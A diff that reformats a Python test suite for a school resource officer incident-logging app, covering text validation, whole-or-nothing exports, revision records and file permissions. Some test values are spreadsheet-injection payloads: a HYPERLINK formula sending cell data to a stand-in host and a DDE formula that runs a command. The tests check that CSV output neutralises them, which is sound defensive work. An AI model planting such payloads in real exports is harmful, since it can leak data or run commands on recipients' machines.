@@ -16,7 +16,7 @@ import stat
 import tempfile
 import uuid
 from collections import Counter
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 
 import pytest
 import sqlite_utils
@@ -39,9 +39,11 @@ from tests.factories import (
 
 TEXT_FIELDS = ("narrative", "justification.basis", "justification.why_last_resort")
 ANY_TEXT = st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=60)
-PROPERTY = settings(max_examples=40, deadline=None,
-                    suppress_health_check=[HealthCheck.function_scoped_fixture,
-                                           HealthCheck.too_slow])
+PROPERTY = settings(
+    max_examples=40,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 
 
 @pytest.fixture
@@ -71,9 +73,15 @@ class Person:
         return Api(self.client).sync(*envelopes)
 
     def decide(self, entry_id, decision, comment="", revision=1):
-        return self.client.post(f"/review/{entry_id}/decision", data={
-            "csrf_token": self.token(f"/review/{entry_id}"), "decision": decision,
-            "comment": comment, "revision": revision})
+        return self.client.post(
+            f"/review/{entry_id}/decision",
+            data={
+                "csrf_token": self.token(f"/review/{entry_id}"),
+                "decision": decision,
+                "comment": comment,
+                "revision": revision,
+            },
+        )
 
     def export(self, **form):
         return self.client.post("/export", data={"csrf_token": self.token("/export"), **form})
@@ -93,26 +101,38 @@ def store_unchecked(app, entry_id: str, content: dict, status: str = "approved")
     """An entry written straight to the database, as older code let bad text in."""
     with app.app_context():
         officer = db.session.scalar(db.select(User).filter_by(username="ofc.ruiz"))
-        now = datetime.now(timezone.utc)
-        contact = Contact(id=uuid.UUID(entry_id), officer=officer, current_revision=1,
-                          created_at=now)
-        contact.revisions.append(ContactRevision(
-            number=1, content=content, classification=content["classification"],
-            occurred_at=rules.parse_datetime(content["occurred_at"]),
-            school_id=content["school_id"], status=status, received_at=now))
+        now = datetime.now(UTC)
+        contact = Contact(
+            id=uuid.UUID(entry_id), officer=officer, current_revision=1, created_at=now
+        )
+        contact.revisions.append(
+            ContactRevision(
+                number=1,
+                content=content,
+                classification=content["classification"],
+                occurred_at=rules.parse_datetime(content["occurred_at"]),
+                school_id=content["school_id"],
+                status=status,
+                received_at=now,
+            )
+        )
         db.session.add(contact)
         db.session.commit()
 
 
 # ---- 1. only valid text is stored ------------------------------------------------------
 
-@pytest.mark.parametrize("text, words", [
-    ("The student ran off \ud800 behind the gym and hid there.", "broken character"),
-    ("The student ran off \x00 behind the gym and hid there.", "control character"),
-    ("The student ran off \x1b[2J behind the gym and hid there.", "control character"),
-    ("The student ran off \x85 behind the gym and hid there.", "control character"),
-    ("The student ran off\r behind the gym and hid there.", "control character"),
-])
+
+@pytest.mark.parametrize(
+    "text, words",
+    [
+        ("The student ran off \ud800 behind the gym and hid there.", "broken character"),
+        ("The student ran off \x00 behind the gym and hid there.", "control character"),
+        ("The student ran off \x1b[2J behind the gym and hid there.", "control character"),
+        ("The student ran off \x85 behind the gym and hid there.", "control character"),
+        ("The student ran off\r behind the gym and hid there.", "control character"),
+    ],
+)
 @pytest.mark.parametrize("field", TEXT_FIELDS)
 def test_the_sync_api_refuses_broken_text_naming_the_field(app, team, field, text, words):
     ruiz = Person(app, "ofc.ruiz")
@@ -127,7 +147,9 @@ def test_the_sync_api_refuses_broken_text_naming_the_field(app, team, field, tex
 
 def test_tabs_and_line_breaks_are_kept_and_crlf_becomes_one_line_break(app, team):
     ruiz = Person(app, "ofc.ruiz")
-    sent = envelope(mentoring_entry(team["lincoln"], narrative="Lunch:\tfine.\r\nLater: also fine."))
+    sent = envelope(
+        mentoring_entry(team["lincoln"], narrative="Lunch:\tfine.\r\nLater: also fine.")
+    )
     assert ruiz.sync(sent)[0]["status"] == "accepted"
     with app.app_context():
         stored = db.session.get(Contact, uuid.UUID(sent["id"])).current.content
@@ -136,12 +158,22 @@ def test_tabs_and_line_breaks_are_kept_and_crlf_becomes_one_line_break(app, team
 
 def test_the_html_form_shows_the_message_beside_the_field_and_keeps_the_text(app, team):
     ruiz = Person(app, "ofc.ruiz")
-    response = ruiz.client.post("/entries/new", data={
-        "csrf_token": ruiz.token("/entries/new"), "entry_id": str(uuid.uuid4()),
-        "occurred_at": "2026-11-30T10:00", "school_id": str(team["lincoln"]),
-        "location": "hallway", "initiated_by": "student", "classification": "mentoring",
-        "mentoring_type": "mentoring", "students_involved": "1", "actions": "none",
-        "narrative": "We talked\x07 about the bell schedule."})
+    response = ruiz.client.post(
+        "/entries/new",
+        data={
+            "csrf_token": ruiz.token("/entries/new"),
+            "entry_id": str(uuid.uuid4()),
+            "occurred_at": "2026-11-30T10:00",
+            "school_id": str(team["lincoln"]),
+            "location": "hallway",
+            "initiated_by": "student",
+            "classification": "mentoring",
+            "mentoring_type": "mentoring",
+            "students_involved": "1",
+            "actions": "none",
+            "narrative": "We talked\x07 about the bell schedule.",
+        },
+    )
     page = response.get_data(as_text=True)
     assert response.status_code == 422
     assert "“Narrative” holds an invisible control character" in page
@@ -165,8 +197,12 @@ def test_an_amendment_explanation_with_broken_text_is_refused(app, team):
     sent = envelope(mentoring_entry(team["lincoln"]))
     ruiz.sync(sent)
     park.decide(sent["id"], "approve")
-    amended = envelope(mentoring_entry(team["lincoln"], students_involved=2), sent["id"], 1,
-                       amendment_explanation="Two students \ud83d were there.")
+    amended = envelope(
+        mentoring_entry(team["lincoln"], students_involved=2),
+        sent["id"],
+        1,
+        amendment_explanation="Two students \ud83d were there.",
+    )
     [result] = ruiz.sync(amended)
     assert result["status"] == "invalid"
     assert "broken character" in result["errors"]["amendment_explanation"][0]
@@ -182,12 +218,16 @@ def test_audit_filters_with_control_characters_are_ignored_not_a_500(app, team, 
 
 # ---- check-data and exports that are whole or nothing -----------------------------------
 
+
 @pytest.fixture
 def poisoned(app, team):
     """One approved arrest whose justification holds a lone surrogate, stored before the checks."""
     entry_id = str(uuid.uuid4())
-    content = with_text(arrest_entry(team["lincoln"]), "justification.basis",
-                        "A knife \ud800 was found in the student's backpack.")
+    content = with_text(
+        arrest_entry(team["lincoln"]),
+        "justification.basis",
+        "A knife \ud800 was found in the student's backpack.",
+    )
     store_unchecked(app, entry_id, content)
     return entry_id
 
@@ -195,8 +235,10 @@ def poisoned(app, team):
 def test_check_data_names_each_entry_today_s_validation_would_refuse(app, runner, poisoned):
     result = runner.invoke(args=["check-data"])
     assert result.exit_code == 1
-    assert (f"entry {poisoned} revision 1, justification.basis: “justification.basis” holds a "
-            "broken character") in result.output
+    assert (
+        f"entry {poisoned} revision 1, justification.basis: “justification.basis” holds a "
+        "broken character"
+    ) in result.output
     assert "1 stored text would be refused today" in result.output
 
 
@@ -209,7 +251,8 @@ def test_check_data_is_quiet_on_a_clean_record(app, runner, team):
 
 @pytest.mark.parametrize("export_format", ["csv", "jsonl", "sqlite"])
 def test_an_export_that_cannot_be_written_whole_sends_nothing_but_a_reason(
-        app, poisoned, export_format):
+    app, poisoned, export_format
+):
     response = Person(app, "eval.ode").export(format=export_format)
     assert response.status_code == 409
     assert response.mimetype == "text/html"
@@ -225,16 +268,18 @@ def test_the_export_command_leaves_no_partial_file(app, runner, poisoned, tmp_pa
     assert list(tmp_path.iterdir()) == []
 
 
-@pytest.mark.parametrize("args", [["--school", "L\x00HS"], ["--officer", "ofc\x00ruiz"],
-                                  ["--school", "\udcff"]])
-def test_the_export_command_refuses_unreadable_filters_in_one_line(app, runner, team, tmp_path,
-                                                                   args):
-    result = runner.invoke(args=["export", "--format", "csv", "-o", str(tmp_path / "x.csv"),
-                                 *args])
+@pytest.mark.parametrize(
+    "args", [["--school", "L\x00HS"], ["--officer", "ofc\x00ruiz"], ["--school", "\udcff"]]
+)
+def test_the_export_command_refuses_unreadable_filters_in_one_line(
+    app, runner, team, tmp_path, args
+):
+    result = runner.invoke(args=["export", "--format", "csv", "-o", str(tmp_path / "x.csv"), *args])
     assert result.exit_code == 2 and "Error: Invalid value for" in result.output
 
 
 # ---- 2. the record is the latest approved revision -------------------------------------
+
 
 def force_entry(school_id, **changes):
     entry = arrest_entry(school_id, actions=["use_of_force"], force_types=["takedown"])
@@ -250,6 +295,7 @@ def approved_export(app) -> list[dict]:
 
 def assessed_force(app) -> int:
     from logger.evaluation import assessment
+
     with app.app_context():
         years = assessment.available_years(assessment.start_month())
         return sum(assessment.assess(year).actions["use_of_force"] for year in years)
@@ -261,10 +307,18 @@ def test_an_amendment_never_takes_an_approved_use_of_force_out_of_the_record(app
     ruiz.sync(sent)
     assert park.decide(sent["id"], "approve", "Reviewed the video.").status_code == 302
 
-    amendment = envelope(force_entry(team["lincoln"], force_types=["physical_control"]),
-                         sent["id"], 1, amendment_explanation="It was a hold, not a takedown.")
-    assert ruiz.sync(amendment)[0] == {"id": sent["id"], "status": "accepted", "revision": 2,
-                                       "errors": {}}
+    amendment = envelope(
+        force_entry(team["lincoln"], force_types=["physical_control"]),
+        sent["id"],
+        1,
+        amendment_explanation="It was a hold, not a takedown.",
+    )
+    assert ruiz.sync(amendment)[0] == {
+        "id": sent["id"],
+        "status": "accepted",
+        "revision": 2,
+        "errors": {},
+    }
     [row] = approved_export(app)
     assert (row["revision"], row["pending_revision"], row["force_types"]) == ("1", "2", "takedown")
     assert assessed_force(app) == 1
@@ -273,37 +327,64 @@ def test_an_amendment_never_takes_an_approved_use_of_force_out_of_the_record(app
     page = park.client.get(f"/review/{sent['id']}").get_data(as_text=True)
     assert "Revision 1 (approved) is the record. Revision 2 waits for review" in page
 
-    assert park.decide(sent["id"], "return", "Say why the video shows a takedown.",
-                       revision=2).status_code == 302
+    assert (
+        park.decide(
+            sent["id"], "return", "Say why the video shows a takedown.", revision=2
+        ).status_code
+        == 302
+    )
     [row] = approved_export(app)
     assert (row["revision"], row["pending_revision"], row["force_types"]) == ("1", "2", "takedown")
     assert assessed_force(app) == 1
-    assert "Revision 2 was returned" in ruiz.client.get(f"/entries/{sent['id']}").get_data(as_text=True)
+    assert "Revision 2 was returned" in ruiz.client.get(f"/entries/{sent['id']}").get_data(
+        as_text=True
+    )
 
-    again = envelope(force_entry(team["lincoln"], force_types=["physical_control"],
-                                 narrative="The video shows a hold."), sent["id"], 2)
+    again = envelope(
+        force_entry(
+            team["lincoln"], force_types=["physical_control"], narrative="The video shows a hold."
+        ),
+        sent["id"],
+        2,
+    )
     assert ruiz.sync(again)[0]["status"] == "accepted"
-    assert park.decide(sent["id"], "approve", "Agreed after the video.", revision=3).status_code == 302
+    assert (
+        park.decide(sent["id"], "approve", "Agreed after the video.", revision=3).status_code == 302
+    )
     [row] = approved_export(app)
-    assert (row["revision"], row["pending_revision"], row["force_types"]) == \
-        ("3", "", "physical_control")
+    assert (row["revision"], row["pending_revision"], row["force_types"]) == (
+        "3",
+        "",
+        "physical_control",
+    )
     assert assessed_force(app) == 1
 
 
 def test_the_public_summary_counts_an_amended_entry_once_as_its_record(app, team):
     from logger.public import summary
+
     ruiz, park = Person(app, "ofc.ruiz"), Person(app, "sgt.park")
     sent = envelope(force_entry(team["lincoln"], occurred_at="2026-01-15T10:00:00-06:00"))
     ruiz.sync(sent)
     park.decide(sent["id"], "approve", "Reviewed.")
-    ruiz.sync(envelope(force_entry(team["lincoln"], occurred_at="2026-01-15T10:00:00-06:00",
-                                   narrative="More detail."), sent["id"], 1,
-                       amendment_explanation="Added the detail asked for."))
+    ruiz.sync(
+        envelope(
+            force_entry(
+                team["lincoln"], occurred_at="2026-01-15T10:00:00-06:00", narrative="More detail."
+            ),
+            sent["id"],
+            1,
+            amendment_explanation="Added the detail asked for.",
+        )
+    )
     with app.app_context():
         [(quarter, by_school)] = summary.counts(None, datetime(2026, 6, 1).date()).items()
     assert quarter.key.startswith("2026")
-    assert by_school[team["lincoln"]] == {"criminal": 1, "use_of_force": 1,
-                                          "crdc_referral_to_law_enforcement": 1}
+    assert by_school[team["lincoln"]] == {
+        "criminal": 1,
+        "use_of_force": 1,
+        "crdc_referral_to_law_enforcement": 1,
+    }
 
 
 # ---- 3. exports are safe in a spreadsheet -----------------------------------------------
@@ -311,14 +392,24 @@ def test_the_public_summary_counts_an_amended_entry_once_as_its_record(app, team
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
 
 
-@pytest.mark.parametrize("text", [FORMULA, "+1+2 students ran off behind the gym fence", "-2+3 "
-                                  "hidden from view behind the gym fence", "@SUM(A1) hidden "
-                                  "behind the gym fence and more", "\t=1+1 tab first hidden behind"
-                                  " the gym"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        FORMULA,
+        "+1+2 students ran off behind the gym fence",
+        "-2+3 hidden from view behind the gym fence",
+        "@SUM(A1) hidden behind the gym fence and more",
+        "\t=1+1 tab first hidden behind the gym",
+    ],
+)
 def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(app, team, text):
     ruiz, park = Person(app, "ofc.ruiz"), Person(app, "sgt.park")
-    sent = envelope(arrest_entry(team["lincoln"], justification={
-        **arrest_entry(team["lincoln"])["justification"], "basis": text}))
+    sent = envelope(
+        arrest_entry(
+            team["lincoln"],
+            justification={**arrest_entry(team["lincoln"])["justification"], "basis": text},
+        )
+    )
     assert ruiz.sync(sent)[0]["status"] == "accepted", text
     park.decide(sent["id"], "approve", "Reviewed.")
     stored = text.strip()
@@ -330,38 +421,56 @@ def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(app, te
 
 
 def test_the_sqlite_export_keeps_text_exactly_and_its_dictionary_says_why_csv_differs(
-        app, team, tmp_path):
+    app, team, tmp_path
+):
     ruiz, park = Person(app, "ofc.ruiz"), Person(app, "sgt.park")
-    sent = envelope(arrest_entry(team["lincoln"], justification={
-        **arrest_entry(team["lincoln"])["justification"], "basis": FORMULA}))
+    sent = envelope(
+        arrest_entry(
+            team["lincoln"],
+            justification={**arrest_entry(team["lincoln"])["justification"], "basis": FORMULA},
+        )
+    )
     ruiz.sync(sent)
     park.decide(sent["id"], "approve", "Reviewed.")
     path = tmp_path / "out.db"
     path.write_bytes(Person(app, "eval.ode").export(format="sqlite").get_data())
     database = sqlite_utils.Database(path)
     assert [r["justification_basis"] for r in database["entries"].rows] == [FORMULA]
-    notes = [r["description"] for r in database["data_dictionary"].rows
-             if r["table_name"] == "(CSV exports)"]
+    notes = [
+        r["description"]
+        for r in database["data_dictionary"].rows
+        if r["table_name"] == "(CSV exports)"
+    ]
     assert notes and "apostrophe" in notes[0]
 
 
 def test_the_public_summary_csv_is_spreadsheet_safe(app, team):
     from logger.public import summary
+
     with app.app_context():
-        table = summary.quarter_table(summary.Quarter(2026, 1), [
-            ("=cmd|' /C calc'!A0", Counter(criminal=3, arrest=2)),
-            ("Lincoln High School", Counter(mentoring=12))])
+        table = summary.quarter_table(
+            summary.Quarter(2026, 1),
+            [
+                ("=cmd|' /C calc'!A0", Counter(criminal=3, arrest=2)),
+                ("Lincoln High School", Counter(mentoring=12)),
+            ],
+        )
         rows = list(csv.reader(io.StringIO(summary.csv_text([table]))))
-    assert [row[1] for row in rows[1:]] == ["'=cmd|' /C calc'!A0", "Lincoln High School",
-                                            summary.ALL_SCHOOLS]
+    assert [row[1] for row in rows[1:]] == [
+        "'=cmd|' /C calc'!A0",
+        "Lincoln High School",
+        summary.ALL_SCHOOLS,
+    ]
     assert "<10" in rows[1] and "12" in rows[2]  # counts are left as they are
 
 
 # ---- 4. no copies left behind -----------------------------------------------------------
 
+
 @pytest.mark.parametrize("export_format", ["csv", "jsonl", "sqlite"])
-def test_web_exports_leave_nothing_in_the_temporary_folder(app, team, tmp_path, monkeypatch,
-                                                           export_format):
+def test_web_exports_leave_nothing_in_the_temporary_folder(
+    app, team, tmp_path, monkeypatch, export_format
+):
     Person(app, "ofc.ruiz").sync(envelope(arrest_entry(team["lincoln"])))
     monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
     seen = []
@@ -382,8 +491,9 @@ def test_web_exports_leave_nothing_in_the_temporary_folder(app, team, tmp_path, 
 
 
 @pytest.mark.parametrize("export_format", ["csv", "sqlite"])
-def test_a_refused_export_leaves_nothing_behind_either(app, poisoned, tmp_path, monkeypatch,
-                                                       export_format):
+def test_a_refused_export_leaves_nothing_behind_either(
+    app, poisoned, tmp_path, monkeypatch, export_format
+):
     monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
     assert Person(app, "eval.ode").export(format=export_format).status_code == 409
     assert list(tmp_path.iterdir()) == []
@@ -392,8 +502,9 @@ def test_a_refused_export_leaves_nothing_behind_either(app, poisoned, tmp_path, 
 def test_the_export_command_writes_an_owner_only_file(app, runner, team, tmp_path):
     Person(app, "ofc.ruiz").sync(envelope(mentoring_entry(team["lincoln"])))
     target = tmp_path / "out.jsonl"
-    result = runner.invoke(args=["export", "--format", "jsonl", "--status", "all",
-                                 "-o", str(target)])
+    result = runner.invoke(
+        args=["export", "--format", "jsonl", "--status", "all", "-o", str(target)]
+    )
     assert result.exit_code == 0, result.output
     assert stat.S_IMODE(target.stat().st_mode) == 0o600
     assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]
@@ -401,12 +512,19 @@ def test_the_export_command_writes_an_owner_only_file(app, runner, team, tmp_pat
 
 def test_a_new_sqlite_database_is_created_owner_only(tmp_path):
     path = tmp_path / "new.sqlite3"
-    create_app({"TESTING": True, "SECRET_KEY": "test-only", "SRO_EXPORT_KEY": "k" * 40,
-                "SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}"})
+    create_app(
+        {
+            "TESTING": True,
+            "SECRET_KEY": "test-only",
+            "SRO_EXPORT_KEY": "k" * 40,
+            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}",
+        }
+    )
     assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
 
 
 # ---- 9. the small ones -----------------------------------------------------------------
+
 
 def send_chunked(url: str, path: str, body: bytes) -> tuple[int, bytes]:
     host, port = url.removeprefix("http://").split(":")
@@ -417,7 +535,7 @@ def send_chunked(url: str, path: str, body: bytes) -> tuple[int, bytes]:
     connection.putheader("Accept", "application/json")
     connection.endheaders()
     for start in range(0, len(body), 64 * 1024):
-        piece = body[start:start + 64 * 1024]
+        piece = body[start : start + 64 * 1024]
         connection.send(b"%x\r\n%s\r\n" % (len(piece), piece))
     connection.send(b"0\r\n\r\n")
     response = connection.getresponse()
@@ -440,6 +558,7 @@ def test_json_answers_and_downloads_are_never_cached(app, team):
 
 
 # ---- property tests: arbitrary text through every door --------------------------------
+
 
 def pages_and_exports_render(app, entry_id: str) -> None:
     """The officer's and supervisor's pages and all four exports answer in full."""
@@ -487,7 +606,13 @@ def test_any_amendment_explanation_is_refused_or_renders_everywhere(app, team, e
     sent = envelope(mentoring_entry(team["lincoln"]))
     ruiz.sync(sent)
     Person(app, "sgt.park").decide(sent["id"], "approve")
-    [result] = ruiz.sync(envelope(mentoring_entry(team["lincoln"], students_involved=2),
-                                  sent["id"], 1, amendment_explanation=explanation * 2))
+    [result] = ruiz.sync(
+        envelope(
+            mentoring_entry(team["lincoln"], students_involved=2),
+            sent["id"],
+            1,
+            amendment_explanation=explanation * 2,
+        )
+    )
     assert result["status"] in ("accepted", "invalid")
     pages_and_exports_render(app, sent["id"])
